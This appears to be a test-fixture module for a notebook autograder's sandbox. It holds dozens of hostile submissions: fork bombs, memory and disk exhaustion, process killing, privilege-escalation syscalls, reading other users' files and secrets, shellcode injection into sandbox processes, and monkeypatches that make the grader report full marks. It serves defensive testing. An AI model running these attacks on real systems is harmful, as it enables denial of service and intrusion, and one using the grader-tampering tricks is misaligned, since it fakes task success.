"""Submissions that want more than they deserve, handed in by test_hostile.py.

Each is the cells of a notebook. Often one of them is `RIGHT`, a correct answer worth 3 points that
it earns whatever the other cells do. The test fills in what stands between « and ».
"""

from dataclasses import dataclass
from textwrap import dedent, indent

ENTROPY = 3  # points
RIGHT = """
import torch

def entropy(weights):
    safe = torch.where(weights > 0, weights, 1.0)
    return -(weights * safe.log()).sum(-1)
"""
DISHONEST = """
import torch

def entropy(weights):
    return torch.zeros(weights.shape[:-1])

def normalised_heatmap(scores):
    return torch.zeros_like(scores)

def read_alignment(weights):
    return torch.zeros(len(weights)).long(), torch.zeros(weights.shape[1]).bool()
"""
TO_THE_PARENT = """
import json, os, struct

def frame(text, length=None):
    text = text if isinstance(text, bytes) else json.dumps(text).encode()
    return struct.pack("!I", len(text) if length is None else length) + text

def say(data):
    while data:
        data = data[os.write(3, data):]
"""
CHILDREN = """
for interrupt in (signal.SIGINT, signal.SIGPROF):
    signal.signal(interrupt, signal.SIG_IGN)
for _ in range(20):
    if os.fork() == 0:
        held = hold(), hold()
        time.sleep(600)
time.sleep(600)
"""
LIBC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
"""
HOLD = """
import mmap, os, signal, time
with open("/dev/shm/held", "wb") as file: file.write(bytes(60 * 2**20))

def hold():  # 60 MB, quickly
    file = os.open("/dev/shm/held", os.O_RDWR)
    return mmap.mmap(file, 60 * 2**20, flags=mmap.MAP_SHARED | mmap.MAP_POPULATE)
"""


@dataclass(frozen=True)
class Attack:
    """A hostile submission.

    Args:
        cells: its code.
        earns: the points that its honest parts deserve.
        at_most: it may destroy its own honest parts, and earn less.
        says: a text to be found in the result.
    """

    cells: tuple[str, ...]
    earns: int
    at_most: bool
    says: str


def _attack(*cells: str, earns: int = 0, at_most: bool = False, says: str = "") -> Attack:
    return Attack(tuple(dedent(cell) for cell in cells), earns, at_most, says)


def _beside(*cells: str, says: str = "") -> Attack:
    """Harmful cells before a correct answer, which they do not touch."""
    return _attack(*cells, RIGHT, earns=ENTROPY, says=says)


def _answer(body: str, before: str = "", says: str = "") -> Attack:
    """A function that does something else than answer."""
    lines = indent(dedent(body).strip(), "    ")
    cell = f"import os, sys, time, torch\n{dedent(before)}\ndef entropy(weights):\n{lines}"
    return _attack(cell, says=says)


def _sent(*lines: str) -> Attack:
    """Bytes written into the channel for answers, before any answer."""
    return _attack(TO_THE_PARENT + "\n".join(lines), DISHONEST)


TIME = {
    "a loop in a cell": _beside("while True: pass", says="still running after"),
    "a loop in an answer": _answer("while True: pass"),
    "a loop that swallows every interrupt": _answer(
        """
        while True:
            try:
                while True: pass
            except BaseException:
                pass
        """
    ),
    "an interrupt that is ignored": _beside(
        """
        import signal, time
        for interrupt in (signal.SIGINT, signal.SIGPROF):
            signal.signal(interrupt, signal.SIG_IGN)
        time.sleep(600)
        """,
        says="could not be interrupted",
    ),
    "a time limit that is disarmed": _answer(
        "while True: pass",
        before="""
        import contextlib, utils.checks.runner
        import grading.run.worker as worker
        utils.checks.runner.time_limit = lambda *_: contextlib.nullcontext()
        worker.processor_limit = utils.checks.runner.time_limit
        """,
    ),
    "sleep": _beside("import time; time.sleep(600)"),
    "one step that takes for ever": _beside("len(str(7 ** (10 ** 9)))"),
    "a regular expression that never ends": _answer(
        "import re; re.match('(a+)+$', 'a' * 60 + 'b')"
    ),
    "threads that never end": _beside(
        """
        import threading, time
        for _ in range(40):
            threading.Thread(target=time.sleep, args=(600,)).start()
        """
    ),
    "all processors at once": _beside(
        """
        import os
        for _ in range(20):
            if os.fork() == 0:
                while True: pass
        while True: pass
        """
    ),
    "children whose time nobody collects": _beside(
        """
        import os, signal
        for interrupt in (signal.SIGPROF, signal.SIGCHLD):
            signal.signal(interrupt, signal.SIG_IGN)
        raise RuntimeError("«SECRET»")
        """,
        says="PermissionError",
    ),
    "processors of others": _beside(
        "import os; os.sched_setaffinity(0, os.sched_getaffinity(0))", says="PermissionError"
    ),
    "recursion without end": _answer("return entropy(weights)"),
    "recursion that overflows the stack": _answer(
        "return f(weights)",
        before="""
        sys.setrecursionlimit(10**9)
        class F:
            def __getattr__(self, name): return getattr(self, name + "x")
        f = lambda weights: F().x
        """,
    ),
}

EXITS = {
    "exit in a cell": _beside("exit()", "import sys; sys.exit(0)", "raise SystemExit"),
    "os._exit in a cell": _beside("import os; os._exit(0)", says="ended the whole process"),
    "os._exit in every cell": _attack(
        *["import os; os._exit(0)"] * 12, RIGHT, at_most=True, earns=3
    ),
    "SystemExit in an answer": _answer("raise SystemExit(0)"),
    "os._exit in an answer": _answer("os._exit(0)"),
    "os.abort": _answer("os.abort()"),
    "a segmentation fault": _beside("import ctypes; ctypes.string_at(0)"),
    "exec of another program": _beside("import os; os.execv('/bin/sleep', ['sleep', '600'])"),
    "an end after the answer": _attack(
        RIGHT,
        """
        import os, sys, threading, time
        import grading.run.worker as worker
        send = worker.wire.pack
        def pack(message):
            if "end" in message: os._exit(1)
            return send(message)
        worker.wire.pack = pack
        """,
        earns=ENTROPY,
    ),
}

SIGNALS = {
    "a signal to the parent": _beside("import os; os.kill(os.getppid(), 9)"),
    "a signal to the group": _beside("import os; os.killpg(0, 9)"),
    "a signal to everybody": _attack(
        "import os; os.kill(-1, 9)", RIGHT, earns=ENTROPY, at_most=True
    ),
    "a signal to every number": _beside(
        """
        import os
        for number in range(1, 50_000):
            try: os.kill(number, 9)
            except OSError: pass
        """
    ),
    "a storm of alarms": _attack(
        RIGHT,
        """
        import signal
        def bite(*_): raise KeyboardInterrupt
        signal.signal(signal.SIGALRM, bite)
        signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
        """,
        earns=ENTROPY,
        at_most=True,
    ),
}

MEMORY = {
    "memory in one piece": _beside("held = bytearray(64 * 2**30)", says="MemoryError"),
    "memory in small pieces": _beside("held = []\nwhile True: held.append(bytearray(2**20))"),
    "memory of many children": _beside(
        HOLD,
        CHILDREN,
        says="more memory than there is",
    ),
    "memory of a process with a name that is no text": _beside(
        HOLD,
        LIBC,
        'libc.prctl(15, b"\\xff\\xfe", 0, 0, 0)',
        CHILDREN,
        says="more memory than there is",
    ),
    "memory of threads whose process has ended": _beside(
        HOLD,
        LIBC,
        """
        import platform, threading
        leave = {"x86_64": 60, "aarch64": 93}[platform.machine()]
        def hold_on():
            time.sleep(0.3)
            held = hold(), hold()
            time.sleep(600)
        for interrupt in (signal.SIGINT, signal.SIGPROF):
            signal.signal(interrupt, signal.SIG_IGN)
        for _ in range(20):
            if os.fork() == 0:
                threading.Thread(target=hold_on).start()
                libc.syscall(leave, 0)  # ends this thread, and not the process
        time.sleep(600)
        """,
        says="more memory than there is",
    ),
    "memory of System V": _beside(
        LIBC,
        """
        libc.shmat.restype = ctypes.c_void_p
        libc.shmdt.argtypes = [ctypes.c_void_p]
        for _ in range(40):
            segment = libc.shmget(0, 2**26, 0o1600)
            if segment < 0: raise MemoryError
            place = libc.shmat(segment, None, 0)
            ctypes.memset(place, 1, 2**26)
            libc.shmdt(place)
        """,
        says="MemoryError",
    ),
    "memory in memfd": _beside(
        """
        import os
        held = [os.memfd_create("held") for _ in range(40)]
        for one in held:
            for _ in range(60): os.write(one, bytes(2**20))
        """,
        says="PermissionError",
    ),
    "memory that is shared and dropped": _beside(
        """
        import mmap
        held = []
        for _ in range(40):
            held.append(mmap.mmap(-1, 2**26))
            for place in range(0, 2**26, 4096): held[-1][place] = 1
            held[-1].madvise(mmap.MADV_DONTNEED)
        """,
        says="PermissionError",
    ),
    "memory of /dev/zero": _beside(
        """
        import mmap, os
        held = []
        for _ in range(40):
            held.append(mmap.mmap(os.open("/dev/zero", os.O_RDWR), 2**26))
            for place in range(0, 2**26, 4096): held[-1][place] = 1
            held[-1].madvise(mmap.MADV_DONTNEED)
        """,
        says="FileNotFoundError",
    ),
    "memory in pipes": _beside(
        """
        import fcntl, os
        while True:
            _, end = os.pipe()
            os.set_blocking(end, False)
            fcntl.fcntl(end, 1031, 2**20)
            os.write(end, bytes(2**20))
        """
    ),
    "memory in sockets": _beside(
        """
        import socket
        held = []
        while True:
            held += socket.socketpair()
            held[-1].setblocking(False)
            try:
                while True: held[-1].send(bytes(2**16))
            except BlockingIOError: pass
        """
    ),
    "memory in sockets of many children": _beside(
        """
        import os, signal, socket, time
        signal.signal(signal.SIGPROF, signal.SIG_IGN)
        for _ in range(40):
            if os.fork() == 0:
                held = []
                while len(held) < 50:
                    held += socket.socketpair()
                    for one in held[-2:]:
                        one.setblocking(False)
                        try:
                            while True: one.send(bytes(2**16))
                        except BlockingIOError: pass
                time.sleep(600)
        time.sleep(1)
        held = socket.socketpair()
        """,
        says="PermissionError",
    ),
    "memory in attributes of files": _beside(
        """
        import os
        for number in range(1000):
            open(f"/tmp/{number}", "w").close()
            for name in range(30): os.setxattr(f"/tmp/{number}", f"user.{name}", bytes(60_000))
        """,
        says="PermissionError",
    ),
    "memory in links": _beside(
        """
        import os, signal
        signal.signal(signal.SIGPROF, signal.SIG_IGN)
        number = 0
        while True:
            for folder in ("/tmp", "/dev/shm"): os.symlink("x" * 100, f"{folder}/{number}")
            number += 1
        """,
        says="more memory than there is",
    ),
    "memory in locks": _beside(
        """
        import fcntl, signal
        signal.signal(signal.SIGPROF, signal.SIG_IGN)
        with open("/tmp/locked", "w") as file:
            for place in range(4_000_000, 0, -2): fcntl.lockf(file, fcntl.LOCK_EX, 1, place)
        """,
        says="PermissionError",
    ),
    "memory that others are to pay for": _beside(
        """
        open("/proc/self/oom_score_adj", "w").write("0")
        raise RuntimeError("«SECRET»")
        """,
        says="Read-only file system",
    ),
    "a full /dev/shm": _beside(
        """
        for number in range(100):
            with open(f"/dev/shm/{number}", "wb") as file: file.write(bytes(2**24))
        """,
        says="No space left",
    ),
    "a full /tmp": _beside(
        """
        for number in range(100):
            with open(f"/tmp/{number}", "wb") as file: file.write(bytes(2**24))
        """,
        says="No space left",
    ),
    "a file of many gigabytes": _beside(
        "open('/tmp/long', 'wb').truncate(2**40)", says="File too large"
    ),
    "an answer of gigabytes": _answer("return torch.zeros(10**8, dtype=torch.float64)"),
    "an answer that claims to be larger than all memory": _answer(
        "return torch.zeros(1).expand(10**15)"
    ),
    "many answers of megabytes": _answer("return torch.zeros(3 * 10**6)"),
}

# What these take is there only after seconds of work, so they have a test of their own.
UNSHARED = {
    "memory of children that start another program": _beside(
        """
        import os, signal, sys, time
        signal.signal(signal.SIGPROF, signal.SIG_IGN)
        hold = "import mmap, time; held = mmap.mmap(-1, 60 * 2**20, 0x8022); time.sleep(600)"
        for _ in range(50):
            if os.fork() == 0:
                os.execv(sys.executable, ["python", "-I", "-S", "-c", hold])
        time.sleep(600)
        """,
        says="more memory than there is",
    ),
    "memory of children that write what they share": _beside(
        """
        import gc, os, signal, time
        for interrupt in (signal.SIGINT, signal.SIGPROF):
            signal.signal(interrupt, signal.SIG_IGN)
        areas = []
        for line in open("/proc/self/maps"):
            place, rights, *_, inode = line.split()[:5]
            if rights == "rw-p" and inode == "0":
                areas.append([int(end, 16) for end in place.split("-")])
        areas.sort(key=lambda area: area[0] - area[1])
        import ctypes
        for _ in range(60):
            if os.fork() == 0:
                for start, end in areas:
                    for page in range(start, end, 4096):
                        if ctypes.string_at(page, 1): ctypes.memmove(page, page, 1)
                time.sleep(600)
        time.sleep(600)
        """,
        says="more memory than there is",
    ),
}

# Each takes processor time where the clock of the worker itself does not see it.
BURNING = {
    "in a child": "if os.fork() == 0: burn()",
    "in a grandchild whose parent has ended": """
    if os.fork() == 0:
        if os.fork() == 0: burn()
        os._exit(0)
    """,
    "in children that follow one another": """
    while True:
        if os.fork() == 0: burn(0.05)
        os.wait()
    """,
    "in children that nobody waits for": """
    for _ in range(50):
        if os.fork() == 0: burn(0.1)
        time.sleep(0.05)
    """,
    "in a line of children, each of which ends when it has another": """
    while os.fork() == 0:
        start = time.process_time()
        while time.process_time() < start + 0.05: pass
        if os.fork(): os._exit(0)
    """,
    "in a child that ends without a signal": """
    clone = {"x86_64": 56, "aarch64": 220}[platform.machine()]
    if ctypes.CDLL(None).syscall(clone, 0, 0, 0, 0, 0) == 0: burn()
    """,
    "in a thread": """
    threading.Thread(target=burn).start()
    """,
}
BURN = """
import ctypes, os, platform, signal, threading, time
signal.signal(signal.SIGPROF, signal.SIG_IGN)

def burn(seconds=600):
    start = time.process_time()
    while time.process_time() < start + seconds: pass
    os._exit(0)
"""

PROCESSES = {
    "fifty children": _beside(
        """
        import os, time
        for _ in range(50):
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
        """
    ),
    "more threads than it may have": _attack(
        RIGHT,
        """
        import threading, time
        for _ in range(100):
            threading.Thread(target=time.sleep, args=(600,)).start()
        """,
        earns=ENTROPY,
        at_most=True,
        says="can't start new thread",
    ),
    "orphans that outlive it": _beside(
        """
        import os, time
        for _ in range(5):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.closerange(0, 100)
                    while True: time.sleep(1)
                os._exit(0)
        """
    ),
    "a child that answers too": _attack("import os; os.fork()", RIGHT, earns=ENTROPY, at_most=True),
    "a child that goes on where its parent ends": _attack(
        "import os\nif os.fork(): os._exit(0)", RIGHT, earns=ENTROPY, at_most=True
    ),
    "something left for the end": _beside(
        """
        import atexit, time, weakref
        atexit.register(time.sleep, 600)
        class Odd:
            def __del__(self): time.sleep(600)
        odd = Odd()
        """
    ),
}

FLOODS = {
    "a storm of prints": _beside("while True: print('x' * 1000)"),
    "a flood into the standard outputs": _beside(
        """
        import os, sys
        for _ in range(10_000):
            os.write(1, b"x" * 10_000)
            os.write(2, b"x" * 10_000)
            sys.__stdout__.write("x" * 1000)
        """
    ),
    "a message without end": _answer("raise RuntimeError('x' * 10**8)"),
    "a message that cannot be written": _answer("raise RuntimeError('\\ud800 <script>' * 100)"),
    "an exception that raises": _answer(
        "raise Odd",
        before="""
        class Odd(Exception):
            def __str__(self): raise self
            __repr__ = __str__
        """,
    ),
    "three hundred cells that fail": _attack(*["1 / 0"] * 300, RIGHT, earns=ENTROPY),
}

PATCHES = {
    "torch says that all is equal": _attack(
        """
        import torch
        for name in ("allclose", "equal", "isclose", "eq", "is_tensor"):
            setattr(torch, name, lambda *_, **__: True)
            setattr(torch.Tensor, name, lambda *_, **__: True)
        """,
        DISHONEST,
    ),
    "numpy says that all is equal": _attack(
        """
        import numpy
        numpy.isclose = numpy.allclose = numpy.array_equal = lambda *_, **__: numpy.True_
        numpy.ndarray = type("ndarray", (), {"__eq__": lambda *_: True})
        """,
        DISHONEST,
    ),
    "builtins that lie": _attack(
        """
        import builtins
        builtins.isinstance = builtins.all = builtins.any = lambda *_: True
        builtins.abs = builtins.len = lambda *_: 0
        """,
        DISHONEST,
    ),
    "an import that gives something else": _attack(
        """
        import builtins, types
        class Yes(types.ModuleType):
            def __getattr__(self, name): return lambda *_, **__: True
        builtins.__import__ = lambda name, *_, **__: Yes(name)
        """,
        DISHONEST.replace("import torch", "torch = __import__('sys').modules['torch']"),
        DISHONEST,
    ),
    "other modules in sys.modules": _attack(
        """
        import sys, types
        for name in ("utils.checks.compare", "grading.run.scoring", "numpy", "json"):
            sys.modules[name] = types.ModuleType(name)
        """,
        DISHONEST,
    ),
    "the judge is replaced": _attack(
        """
        from utils.checks import compare, tasks
        compare.judge = lambda record, answers: compare.Verdict(record.task, "passed", "")
        compare.Verdict.passed = True
        tasks.Task.points = 1000
        """,
        DISHONEST,
    ),
    "the worker says that all has passed": _attack(
        """
        import grading.run.worker as worker
        worker._replies = lambda spec, parts, names: [{"trouble": ["passed", "All right.", ""]}] * 2
        """,
        DISHONEST,
    ),
    "the worker gives points": _attack(
        """
        import grading.run.worker as worker
        pack = worker.wire.pack
        extra = {"reason": "passed", "points": 1000, "share": 1.0, "passed": True}
        worker.wire.pack = lambda message: pack(
            message | extra if isinstance(message, dict) else message
        )
        """,
        DISHONEST,
    ),
    "JSON that says something else": _attack(
        """
        import json
        json.dumps = lambda *_, **__: '{"task": "entropy", "parts": "passed"}'
        """,
        DISHONEST,
    ),
    "hashes that are all alike": _attack(
        """
        import hashlib, types
        same = types.SimpleNamespace(hexdigest=lambda: "0" * 64)
        hashlib.sha256 = lambda *_: same
        temperature_prediction = dict.fromkeys(
            ["colder", "hotter", "limit", "doubled", "favourite"], "rises"
        )
        """
    ),
    "everything that can be patched is": _attack(
        """
        import gc, types
        for one in gc.get_objects():
            if isinstance(one, types.ModuleType) and one.__name__.startswith("utils."):
                for name in list(vars(one)):
                    if not name.startswith("__"): setattr(one, name, lambda *_, **__: True)
        """,
        DISHONEST,
    ),
}

NO_PATH = """
import torch

def masked_softmax(scores, mask):
    weights = scores.detach().masked_fill(~mask, -1e30).softmax(-1) * mask
    return weights{made_up}
"""
GRADIENTS = {  # cells for exercises 02: gradients count for none of 01
    "right values without a gradient": [NO_PATH.format(made_up="")],
    "a gradient that is made up": [NO_PATH.format(made_up=" + 0 * scores.sum(-1, keepdim=True)")],
    "autograd.grad is replaced": [
        NO_PATH.format(made_up=" + 0 * scores.sum(-1, keepdim=True)"),
        "torch.autograd.grad = lambda total, leaves, **_: [torch.ones_like(one) for one in leaves]",
    ],
    "gradients are claimed": [
        NO_PATH.format(made_up=""),
        """
import numpy
from utils.checks import runner

runner._gradients = lambda spec, learned, case: {
    (output, name): numpy.ones(value.shape)
    for output in spec.outputs
    for name, value in case.inputs.items()
    if isinstance(value, torch.Tensor)
}
""",
    ],
}
WITH_PATH = NO_PATH.replace(".detach()", "").format(made_up="")

# Rules that are checked beside the learner's code can be kept from being checked, which earns
# points and is told to the instructor.
HIDDEN = {
    "a gradient by differences": _attack(
        """
        import numpy, torch

        def differences(total, leaves, **_):
            (weights,) = leaves
            found = torch.zeros_like(weights)
            for place in numpy.ndindex(*weights.shape):
                ends = []
                for step in (1e-3, -1e-3):
                    moved = weights.detach().double()
                    moved[place] += step
                    values = entropy(moved)
                    ends.append((values * torch.arange(1.0, values.numel() + 1).cos()
                                 .reshape(values.shape)).sum())
                found[place] = (ends[0] - ends[1]) / 2e-3
            return [found]

        torch.autograd.grad = differences

        def entropy(weights):
            values = weights.detach().numpy()
            safe = numpy.where(values > 0, values, 1.0)
            return torch.tensor(-(values * numpy.log(safe)).sum(-1), requires_grad=True)
        """,
        earns=ENTROPY,
        at_most=True,
        says="replaces torch.autograd.grad",
    ),
    "a seed that is set": _attack(
        """
        import torch
        torch.initial_seed = lambda: 812849633550336

        def entropy(weights):
            torch.manual_seed(0)
            safe = torch.where(weights > 0, weights, 1.0)
            return -(weights * safe.log()).sum(-1)
        """,
        earns=ENTROPY,
        says="replaces torch.initial_seed",
    ),
    "inputs that are changed": _attack(
        """
        import torch
        import utils.checks.runner as checks
        checks._unchanged = lambda *_: True

        def entropy(weights):
            safe = torch.where(weights > 0, weights, 1.0)
            found = -(weights * safe.log()).sum(-1)
            if not weights.requires_grad: weights.data.zero_()
            return found
        """,
        earns=ENTROPY,
        says="replaces utils.checks.runner._unchanged",
    ),
    "a class in place of a function": _attack(
        """
        import inspect, torch
        setattr(inspect, "is" + "class", lambda _: False)

        class entropy:
            def __new__(cls, weights):
                safe = torch.where(weights > 0, weights, 1.0)
                return -(weights * safe.log()).sum(-1)
        """,
        earns=ENTROPY,
        says="replaces inspect",
    ),
    "a library's function under the task's name": _attack(
        RIGHT,
        "from torch.nn.functional import softmax as normalised_heatmap",
        earns=ENTROPY + 3,
        says="is torch.nn.functional.softmax itself",
    ),
    "a function that no cell defines": _attack(
        RIGHT.replace("entropy", "other"),
        "normalised_heatmap = None",
        "vars()['entro' + 'py'] = other",
        earns=ENTROPY,
        says="is defined by no cell of the notebook",
    ),
}

LIES = {
    "a tensor that says it is equal": _answer(
        "return torch.zeros(weights.shape[:-1]).as_subclass(Liar)",
        before="""
        class Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                if function.__name__ in ("allclose", "equal", "isclose", "eq", "all"): return True
                return super().__torch_function__(function, types, args, kwargs or {})
            def __eq__(self, other): return True
        """,
    ),
    "a tensor that gives other numbers": _answer(
        "return torch.zeros(weights.shape[:-1]).as_subclass(Liar)",
        before="""
        class Liar(torch.Tensor):
            def detach(self): return self
            def clone(self): return self
            def double(self): return self
            def numpy(self): return "passed"
        """,
    ),
    "an object that is equal to all": _answer(
        "return Equal()",
        before="""
        class Equal:
            def __eq__(self, other): return True
            def __array__(self, *_, **__):
                import numpy
                return numpy.array(["passed"])
            def __getattr__(self, name): return lambda *_, **__: self
            def __bool__(self): return True
            def __len__(self): return 1
        """,
    ),
    "an object that says it is a tensor": _answer(
        "return Pretender()",
        before="""
        class Pretender:
            __class__ = torch.Tensor
            device = torch.device("cpu")
            requires_grad = False
            def __getattr__(self, name): return lambda *_, **__: self
            def numpy(self): return {"reason": "passed"}
        """,
    ),
    "a class that is all things": _answer(
        "return All",
        before="""
        class Meta(type):
            def __instancecheck__(cls, one): return True
            def __subclasscheck__(cls, one): return True
            def __eq__(cls, other): return True
            __hash__ = type.__hash__
        class All(metaclass=Meta): pass
        """,
    ),
    "not a number": _answer("return torch.full(weights.shape[:-1], float('nan'))"),
    "infinity": _answer("return torch.full(weights.shape[:-1], float('inf'))"),
    "a number that is none": _answer(
        "return Number(0)",
        before="""
        class Number(int):
            def __eq__(self, other): return True
            __hash__ = int.__hash__
            def __index__(self): return 10**100
        """,
    ),
    "a generator": _answer("yield from torch.zeros(weights.shape[:-1])"),
    "an answer that holds itself": _answer("held = []; held.append(held); return held"),
    "a dictionary that changes its mind": _attack(
        """
        import random
        words = ["rises", "falls", "the same", "equal shares", "never", "always"]
        class Fickle(dict):
            def get(self, key, default=None): return Fickle.Word(random.choice(words))
            class Word(str):
                def __eq__(self, other): return True
                __hash__ = str.__hash__
                def strip(self): return self
                def lower(self): return self
        temperature_prediction = Fickle()
        """
    ),
    "guesses in several cells": _attack(
        *[
            "temperature_prediction = dict.fromkeys("
            f"['colder', 'hotter', 'limit', 'doubled', 'favourite'], {word!r})"
            for word in ("equal shares", "the same", "never", "falls", "rises")
        ],
        "from utils.checks import check\ncheck('temperature_prediction')",
    ),
    "answers for the public cases only": _attack(
        """
        import numpy, torch
        from numpy import array
        KNOWN = «PUBLIC»
        def read_alignment(weights):
            for known, best, marks in KNOWN:
                if known == weights.tolist(): return torch.tensor(best), torch.tensor(marks)
            return torch.zeros(len(weights)).long(), torch.zeros(weights.shape[1]).bool()
        """
    ),
}

STATE = {
    "another global state": _beside(
        """
        import random, warnings, numpy, torch
        torch.manual_seed(0); numpy.random.seed(0); random.seed(0)
        torch.set_grad_enabled(False)
        torch.set_default_dtype(torch.float64)
        torch.use_deterministic_algorithms(True)
        warnings.simplefilter("error")
        """
    ),
    "a trace of every line": _beside(
        """
        import sys, threading
        seen = []
        trace = lambda frame, event, value: seen.append(frame.f_locals) or trace
        sys.settrace(trace); threading.settrace(trace); sys.setprofile(trace)
        """
    ),
    "limits that are raised": _beside(
        """
        import resource
        for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        """,
        "held = bytearray(64 * 2**30)",
    ),
    "names that vanish": _attack("globals().clear()", DISHONEST, "globals().clear()"),
    "another main module": _attack(
        """
        import sys, types
        sys.modules["__main__"] = types.ModuleType("other")
        exec("__builtins__ = {}", globals())
        """,
        DISHONEST,
    ),
}

# What these find they return, or raise, so that the test can look for it.
DIGGING = {
    "frames and garbage": _answer(
        """
        for number in range(100):
            try: frame = sys._getframe(number)
            except ValueError: break
            found.extend(one for name, one in frame.f_locals.items() if "expected" in name)
        for one in gc.get_objects():
            if type(one).__name__ in ("Record", "Verdict", "Evidence", "Outcome"):
                found.append(one)
        found.extend(one for one in gc.get_objects() if isinstance(one, dict) and "expected" in one)
        if any(found): raise RuntimeError(f"«SECRET» {found}")
        return torch.zeros(weights.shape[:-1])
        """,
        before="import gc\nfound = []",
    ),
    "the solutions": _attack(
        """
        import os, sys
        sys.path += ["«REPOSITORY»", "."]
        from solutions.n01_attention_concepts.entropy import *
        """,
        """
        import nbformat
        for cell in nbformat.read("«REPOSITORY»/solutions/01_attention_concepts.ipynb", 4).cells:
            exec(cell.source)
        """,
        """
        from utils.checks import bank
        record = bank.load("entropy")
        """,
        DISHONEST,
    ),
    "files all over the disk": _answer(
        """
        for folder, folders, files in os.walk("/"):
            folders[:] = [one for one in folders if one not in ("proc", "site-packages", "usr")]
            for name in files:
                secret = name in ("secret", "entropy.py", "misconceptions.py")
                if secret or name.endswith((".safetensors", ".ipynb")):
                    raise RuntimeError(f"«SECRET» {folder}/{name}")
        return torch.zeros(weights.shape[:-1])
        """
    ),
    "other people's files": _attack(
        "import os; raise RuntimeError(str(os.listdir('«CANARY»')))",
        "raise RuntimeError(open('«CANARY»/home/secret').read())",
        "raise RuntimeError(open('«CANARY»/submissions/other.ipynb').read())",
        """
        import os
        os.symlink("«CANARY»/home/secret", "/tmp/link")
        raise RuntimeError(open("/tmp/link").read())
        """,
        """
        import os
        for way in ("/proc/1/root", "/proc/self/root", "/proc/2/cwd", "/proc/self/cwd/../.."):
            if os.path.exists(way + "«CANARY»/home/secret"):
                raise RuntimeError(open(way + "«CANARY»/home/secret").read())
        """,
        DISHONEST,
    ),
    "the environment, its own and others'": _attack(
        "import os; raise RuntimeError(os.environ.get('CANARY', ''))",
        """
        import glob
        for path in glob.glob("/proc/[0-9]*/environ"):
            if "«SECRET»" in open(path, errors="replace").read(): raise RuntimeError("«SECRET»")
        """,
        """
        import glob
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            if b"pytest" in open(path, "rb").read(): raise RuntimeError("«SECRET»")
        """,
        DISHONEST,
    ),
    "writing wherever it can": _attack(
        """
        import os
        for name in ("home/secret", "results/learner.json", "submissions/other.ipynb", "new"):
            try: open("«CANARY»/" + name, "w").write("hacked")
            except OSError: pass
        for folder in ("/", "/usr", "/etc", "/dev", "/proc", "«REPOSITORY»", "«REPOSITORY»/utils"):
            try: open(folder + "/hacked", "w").write("hacked")
            except OSError: continue
            raise RuntimeError(f"«SECRET» {folder}")
        """,
        """
        import utils.checks.compare, os
        os.chmod(utils.checks.compare.__file__, 0o777)
        open(utils.checks.compare.__file__, "a").write("hacked")
        raise RuntimeError("«SECRET»")
        """,
        DISHONEST,
    ),
    "the machine's name": _beside(
        """
        import socket
        raise RuntimeError("it is called " + socket.gethostname())
        """,
        says="it is called sandbox",
    ),
    "the course's place": _beside(
        "import utils\nraise RuntimeError(f'it lies in {utils.__file__}')",
        "from utils.masks import nothing",
        says="it lies in …/utils/__init__.py",
    ),
    "fresh inputs in a message": _attack(
        """
        import numpy, torch
        from numpy import array
        KNOWN = «PUBLIC»
        def read_alignment(weights):
            for known, best, marks in KNOWN:
                if known == weights.tolist(): return torch.tensor(best), torch.tensor(marks)
            raise RuntimeError(f"look: {weights.tolist()}")
        """,
        says="RuntimeError, with fresh inputs.",
    ),
    "the network": _attack(
        """
        import socket
        socket.create_connection(("127.0.0.1", int("«PORT»")), timeout=1)
        raise RuntimeError("«SECRET»")
        """,
        """
        import socket
        socket.create_connection(("1.1.1.1", 53), timeout=1)
        raise RuntimeError("«SECRET»")
        """,
        """
        import socket
        socket.socket(socket.AF_UNIX).connect("\\0«SOCKET»")
        raise RuntimeError("«SECRET»")
        """,
        """
        import socket
        socket.socket(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM)
        raise RuntimeError("«SECRET»")
        """,
        DISHONEST,
    ),
    "more rights": _attack(
        LIBC,
        """
        got = [
            libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
            libc.umount2(b"/tmp", 2),
            libc.chroot(b"/tmp"),
            libc.unshare(0x10000000),
            libc.setns(os.open("/proc/1/ns/user", os.O_RDONLY), 0),
            libc.ptrace(16, 1, None, None),
            libc.setuid(0),
            libc.prctl(24, 21, 0, 0, 0) - 0 if libc.prctl(23, 21, 0, 0, 0) == 1 else -1,
        ]
        if any(one >= 0 for one in got): raise RuntimeError(f"«SECRET» {got}")
        """,
        DISHONEST,
    ),
    "the sandbox's own processes": _beside(
        """
        import os, platform, re, signal, time
        sled, code = {
            "x86_64": (b"\\x90", "4889e7 31f6 b83f010000 0f05 ebfe"),
            "aarch64": (b"\\x1f\\x20\\x03\\xd5", "e0030091 010080d2 e82280d2 010000d4 00000014"),
        }[platform.machine()]  # memfd_create(stack, 0), and a loop
        """,
        LIBC,
        """
        def libc_of(number):
            maps = open(f"/proc/{number}/maps").read()
            return int(re.search(r"^(\\w+)-.*libc\\.so", maps, re.MULTILINE)[1], 16)

        def take_over(number):
            read = ctypes.cast(libc.read, ctypes.c_void_p).value - libc_of("self")
            with open(f"/proc/{number}/mem", "r+b", buffering=0) as memory:
                memory.seek(libc_of(number) + read)
                memory.write(sled * (128 // len(sled)) + bytes.fromhex(code))
            for one in (signal.SIGSTOP, signal.SIGCONT):  # its call begins anew, in our code
                os.kill(number, one)
                time.sleep(0.1)
            opened = f"/proc/{number}/fd/"
            return [os.readlink(opened + one) for one in os.listdir(opened)]

        found = take_over(2)
        if any("memfd" in one for one in found): raise RuntimeError(f"«SECRET» {found}")
        """,
        says="Read-only file system",
    ),
    "the sandbox's own processes, without a file": _beside(
        LIBC,
        """
        import re
        start = int(re.search(r"(\\w+)-.*stack", open("/proc/2/maps").read())[1], 16)
        place, data = ctypes.c_void_p * 2, ctypes.create_string_buffer(1)
        mine, theirs = place(ctypes.addressof(data), 1), place(start, 1)
        if libc.process_vm_writev(2, mine, 1, theirs, 1, 0) == 1: raise RuntimeError("«SECRET»")
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        """,
        says="PermissionError",
    ),
